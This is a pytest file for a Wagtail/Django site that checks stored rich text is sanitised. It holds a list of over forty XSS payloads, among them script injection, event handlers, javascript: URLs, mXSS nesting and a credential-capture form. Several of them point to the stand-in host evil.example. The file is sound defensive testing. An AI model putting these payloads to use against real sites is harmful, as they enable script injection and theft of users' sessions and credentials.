"""R67: whatever an import, an API or a migration wrote into the database comes out harmless."""

import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter
from wagtail.rich_text import RichText

from course.programme.cleaning import SCHEMES, SHOWN, clean
from course.programme.models import HomePage, PublicPage
from sessions.templatetags.sheet_words import for_paper, tidy
from tests.cast import signed_in
from tests.databases import on_postgres

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></table></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='/' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<a href='/' target=_blank ping=//evil.example>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class=button id=main data-autosave>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<embed embedtype='media' url='https://evil.example/film'/>",
    "<embed embedtype='image' id='1' format='left' alt='\"><script>alert(1)</script>'/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template><details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<span lang='cy' onclick=alert(1) style='position:fixed;inset:0' class=button>x</span>",
    "<span lang='\"><script>alert(1)</script>'>x</span>",
]


class Reader(HTMLParser):
    """What a browser would make of it: each element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def harmful(html: str) -> list:
    allowed = SHOWN | {"span"}  # the mark of a link that leads away
    bad = []
    for tag, attributes in Reader(html).found:
        address = attributes.get("href") or ""
        scheme = address.partition(":")[0].strip().lower() if ":" in address else ""
        known = (
            {"href", "rel"}
            if tag == "a"
            else {"class", "aria-hidden", "lang", "dir"}
            if tag == "span"
            else set()
        )
        if tag not in allowed or set(attributes) - known or (scheme and scheme not in SCHEMES):
            bad.append((tag, attributes))
    return bad


def test_none_of_them_survives_and_the_words_around_them_do():
    assert len(XSS) >= 40
    for text in XSS:
        shown = str(RichText(f"<p>Before.</p>{text}<p>After.</p>"))
        assert harmful(shown) == [], text
        assert "Before." in shown, text
        plain = for_paper(tidy(RichText(f"<p>Before.</p>{text}<p>After.</p>")))
        assert harmful(plain) == [], text
        assert not Reader(plain).found or {tag for tag, _ in Reader(plain).found} <= SHOWN
    filtered = Template("{% load wagtailcore_tags %}{{ words|richtext }}")
    assert harmful(filtered.render(Context({"words": "".join(XSS)}))) == []


def test_what_editors_write_stays_as_it_is():
    words = (
        "<h3>One</h3><p>A <b>bold</b>, <i>soft</i> line<br>and “more” – é.</p><ul><li>x</li></ul>"
        '<ol><li><a href="/help/">help</a> <a href="tel:116123">call</a></li></ol>'
    )
    assert clean(words) == words


def test_a_link_that_leads_away_says_so(settings):
    settings.SITE_URL = "https://ours.example"
    for address in ("https://x.example/a", "//x.example", "/\\x.example", "\\\\x.example"):
        shown = clean(f'<p><a href="{address}">there</a></p>')
        assert "(another site)" in shown, address
        assert 'rel="noopener noreferrer"' in shown, address
    for address in ("/help/", "https://ours.example/help/", "#part", "mailto:a@x.example"):
        assert clean(f'<a href="{address}">there</a>') == f'<a href="{address}">there</a>'


def test_words_say_which_language_they_are_in_and_forged_ones_do_not():
    stored = '<p>A <span lang="cy">cwtsh</span>, or <span lang="ur">سکون</span>.</p>'
    shown = clean(stored)
    assert '<span lang="cy" dir="auto">cwtsh</span>' in shown
    assert '<span lang="ur" dir="rtl">سکون</span>' in shown
    for forged in ("xx", "en-GB-x-evil", '"><b>', "cy onclick=1"):
        assert "lang" not in clean(f"<p><span lang='{forged}'>x</span></p>")
    features = ["bold", "language"]
    again = ContentstateConverter(features=features)
    kept = again.to_database_format(again.from_database_format(stored))
    assert re.sub(r' data-block-key="\w+"', "", kept) == stored
    state = again.from_database_format(stored).replace('"lang": "cy"', '"lang": "xx\\"><script>"')
    assert 'lang="ur"' in again.to_database_format(state)
    assert "script" not in again.to_database_format(state)


@pytest.mark.django_db
def test_stored_by_an_import_none_runs_on_a_page_or_in_a_preview(client, flo, root, sessions):
    evil = "".join(XSS)
    evil = evil.replace("\x00", "") if on_postgres() else evil  # which stores none
    HomePage.objects.update(intro=evil, private_promise=evil, limit=evil)
    page = PublicPage.objects.get(slug="help")
    page.sections = [("text", {"heading": "x", "body": RichText(evil)})]
    page.save()
    session = next(s for s in sessions if s.open_to_all)
    session.body = [("text", {"title": "x", "minutes": 1, "body": RichText(evil)})]
    session.save_revision().publish()
    shown = [client.get(path).content.decode() for path in ("/", "/help/", session.url)]
    preview = signed_in(root).get(f"/cms/pages/{session.pk}/view_draft/").content.decode()
    for html in [*shown, preview]:
        found = Reader(html).found
        assert not [a for _tag, a in found if any(name.startswith("on") for name in a)]
        hosts = [v for _tag, a in found for v in a.values() if v and "evil.example" in v]
        assert hosts == []
        assert not [
            a for tag, a in found if tag == "script" and not a.get("src") and "type" not in a
        ]
        assert not [a for _tag, a in found if "javascript:" in (a.get("href") or "").lower()]
